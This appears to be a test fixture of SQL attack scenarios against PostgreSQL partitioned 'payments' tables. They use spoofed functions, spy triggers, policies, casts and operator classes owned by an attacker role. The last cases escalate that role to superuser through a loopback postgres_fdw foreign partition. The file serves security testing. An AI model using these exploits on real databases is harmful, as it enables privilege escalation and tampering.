-- Partitioned tables, whose partitions are tables with everything of their own.

-- attack: partitions with lies
-- payments: CREATE TABLE payments (id bigint PRIMARY KEY, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(), status text, flag boolean DEFAULT true, note text) PARTITION BY RANGE (id)
CREATE TABLE low PARTITION OF payments FOR VALUES FROM (MINVALUE) TO (100);
CREATE TABLE high (note text, status text, dropped text, flag boolean, paid_at timestamptz DEFAULT now(), currency text, amount numeric,
    customer text, id bigint NOT NULL);
ALTER TABLE high DROP dropped;
ALTER TABLE payments ATTACH PARTITION high FOR VALUES FROM (100) TO (MAXVALUE);
-- strike:
CALL lie('of_nothing(int)', 'text', '''x''');
CALL lie('is_indexed(int)', 'boolean', 'true');
CALL lie('is_visible(text)', 'boolean', 'true');
CREATE INDEX ON low (of_nothing(1));
CREATE INDEX ON high (customer) WHERE is_indexed(1);
ALTER TABLE low ADD CHECK (is_indexed(1));
CREATE STATISTICS low_lies ON (of_nothing(1)) FROM low;
CREATE TRIGGER spy AFTER INSERT ON high FOR EACH ROW EXECUTE FUNCTION tattle();
ALTER TABLE high ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY spy ON high USING (is_visible(customer));

-- attack: partition key of an expression
-- only: before
-- payments: CREATE TABLE payments (id bigint, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(), status text, flag boolean DEFAULT true, note text) PARTITION BY LIST (pg_catalog.length(status))
-- attach: currency => 'currency', payment_key => 'id'
CALL lie('of_status(text)', 'text', '$1');
DROP TABLE payments;
CREATE TABLE payments (id bigint NOT NULL, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(),
    status text, flag boolean DEFAULT true, note text) PARTITION BY LIST (of_status(status));
CREATE TABLE paid PARTITION OF payments FOR VALUES IN ('paid');
CREATE TABLE other PARTITION OF payments DEFAULT;
GRANT SELECT, INSERT, UPDATE, DELETE ON payments TO cashier;
CALL lie('of_nothing(int)', 'text', '''x''');
CREATE INDEX ON paid (of_nothing(1));

-- attack: partition key of an operator class
-- superuser: CREATE FUNCTION {s}.hash(bigint, bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN pg_catalog.hashint8extended($1, $2); END'
-- superuser: CREATE OPERATOR CLASS {s}.hash_ops FOR TYPE bigint USING hash AS OPERATOR 1 pg_catalog.=, FUNCTION 2 {s}.hash(bigint, bigint)
-- superuser: ALTER FUNCTION {s}.hash(bigint, bigint) OWNER TO mallory
-- payments: CREATE TABLE payments (id bigint NOT NULL, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(), status text, flag boolean DEFAULT true, note text) PARTITION BY HASH (id hash_ops)
CREATE TABLE first PARTITION OF payments (PRIMARY KEY (id)) FOR VALUES WITH (MODULUS 2, REMAINDER 0);
CREATE TABLE second PARTITION OF payments (PRIMARY KEY (id)) FOR VALUES WITH (MODULUS 2, REMAINDER 1);
ALTER TABLE payments ADD PRIMARY KEY (id);
-- strike:
CALL lie('hash(bigint, bigint)', 'bigint', 'pg_catalog.hashint8extended($1, $2)');

-- attack: a partition that comes with rows, casts and lies
-- then: ALTER TABLE {s}.payments ATTACH PARTITION {s}.high FOR VALUES FROM (1000) TO (MAXVALUE)
-- payments: CREATE TABLE payments (id bigint PRIMARY KEY, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(), status text, flag boolean DEFAULT true, note text) PARTITION BY RANGE (id)
CREATE TABLE low PARTITION OF payments FOR VALUES FROM (MINVALUE) TO (1000);
-- strike:
CALL lie('is_indexed(int)', 'boolean', 'true');
CREATE TABLE high (LIKE payments INCLUDING DEFAULTS);
CALL lie('high_json(high)', 'json', '''{}''');
CREATE CAST (high AS json) WITH FUNCTION high_json(high) AS IMPLICIT;
INSERT INTO high VALUES (1001, 'user-1', 10, 'USD', now(), 'paid'), (1002, 'user-1', NULL, 'USD', now(), 'paid');
CREATE INDEX ON high (customer) WHERE is_indexed(1);
ALTER TABLE high ADD PRIMARY KEY (id);

-- attack: a partition that is detached with our triggers
-- only: after
-- payments: CREATE TABLE payments (id bigint PRIMARY KEY, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(), status text, flag boolean DEFAULT true, note text) PARTITION BY RANGE (id)
CREATE TABLE low PARTITION OF payments FOR VALUES FROM (MINVALUE) TO (100);
CREATE TABLE high PARTITION OF payments FOR VALUES FROM (100) TO (MAXVALUE);
-- strike:
CALL lie('is_indexed(int)', 'boolean', 'true');
ALTER TABLE payments DETACH PARTITION high;
CREATE INDEX ON high (customer) WHERE is_indexed(1);
INSERT INTO high VALUES (900, 'user-1', 1000, 'USD', now(), 'paid');
UPDATE high SET amount = 2000;

-- attack: a foreign partition that logs in as a superuser
-- only: after
-- then: ALTER TABLE {s}.payments ATTACH PARTITION {s}.high FOR VALUES FROM (1000) TO (MAXVALUE)
-- users: cashier mallory
-- needs: postgres_fdw
-- superuser: CREATE EXTENSION IF NOT EXISTS postgres_fdw
-- superuser: CREATE SERVER {s}_loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{host}', port '{port}', dbname '{db}'); ALTER SERVER {s}_loop OWNER TO mallory
-- payments: CREATE TABLE payments (id bigint PRIMARY KEY, customer text, amount numeric, currency text, paid_at timestamptz DEFAULT now(), status text, flag boolean DEFAULT true, note text) PARTITION BY RANGE (id)
CREATE TABLE low PARTITION OF payments FOR VALUES FROM (MINVALUE) TO (1000);
CREATE FUNCTION remote() RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 5000;
EXCEPTION WHEN OTHERS THEN
    RETURN 5000;
END
$$;
CREATE VIEW remote AS SELECT {s}.remote() AS id, 'user-1'::text AS customer, 10::numeric AS amount, 'USD'::text AS currency,
    now() AS paid_at, 'paid'::text AS status, true AS flag, ''::text AS note;
CREATE USER MAPPING FOR PUBLIC SERVER {s}_loop OPTIONS (user 'postgres');
-- strike:
ALTER TABLE payments DROP CONSTRAINT payments_pkey;
CREATE FOREIGN TABLE high (id bigint NOT NULL, customer text, amount numeric, currency text, paid_at timestamptz, status text,
    flag boolean, note text) SERVER {s}_loop OPTIONS (schema_name '{s}', table_name 'remote');

-- attack: a foreign child of refunds that logs in as a superuser
-- users: cashier mallory
-- needs: postgres_fdw
-- superuser: CREATE EXTENSION IF NOT EXISTS postgres_fdw
-- superuser: CREATE SERVER {s}_loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{host}', port '{port}', dbname '{db}'); ALTER SERVER {s}_loop OWNER TO mallory
CREATE FUNCTION remote() RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN OTHERS THEN
    RETURN 1;
END
$$;
CREATE VIEW remote AS SELECT {s}.remote() AS id, 17::bigint AS payment_id, 1::numeric AS amount, 'USD'::text AS currency;
CREATE USER MAPPING FOR PUBLIC SERVER {s}_loop OPTIONS (user 'postgres');
-- strike:
CREATE FOREIGN TABLE more_refunds () INHERITS (refunds) SERVER {s}_loop OPTIONS (schema_name '{s}', table_name 'remote');
